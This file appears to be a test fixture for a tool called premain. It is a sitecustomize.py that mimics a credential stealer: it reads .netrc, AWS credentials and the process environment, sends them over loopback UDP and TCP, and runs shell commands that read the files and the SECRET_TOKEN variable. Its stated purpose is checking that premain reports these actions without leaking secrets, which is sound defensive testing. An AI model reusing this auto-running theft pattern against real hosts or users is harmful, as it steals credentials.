"""A sitecustomize that handles secrets the way credential stealers do: reads credential
files' contents and its own environment, sends them over loopback UDP and TCP, and runs
programs that read them. premain must report the actions, never the secrets.

Copied as `sitecustomize.py` into a PYTHONPATH directory. Environment: PREMAIN_PORT (a TCP
listener and a UDP socket on 127.0.0.1 share the number), SECRET_TOKEN and the secret
markers, and HOME with .netrc and .aws/credentials.
"""
import os
import socket
import subprocess

home = os.path.expanduser("~")
loot = []
for name in (".netrc", ".aws/credentials"):
    with open(os.path.join(home, name), "rb") as f:
        loot.append(f.read())
with open("/proc/self/environ", "rb") as f:
    loot.append(f.read())
blob = b"\n".join(loot)
port = int(os.environ["PREMAIN_PORT"])
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.sendto(blob[:1024], ("127.0.0.1", port))
udp.close()
tcp = socket.create_connection(("127.0.0.1", port))
tcp.sendall(blob)
tcp.close()
subprocess.run(["/bin/sh", "-c", 'cat "$HOME/.netrc" >/dev/null; printenv SECRET_TOKEN >/dev/null'], check=True)
subprocess.run(["/usr/bin/env"], stdout=subprocess.DEVNULL, check=True)
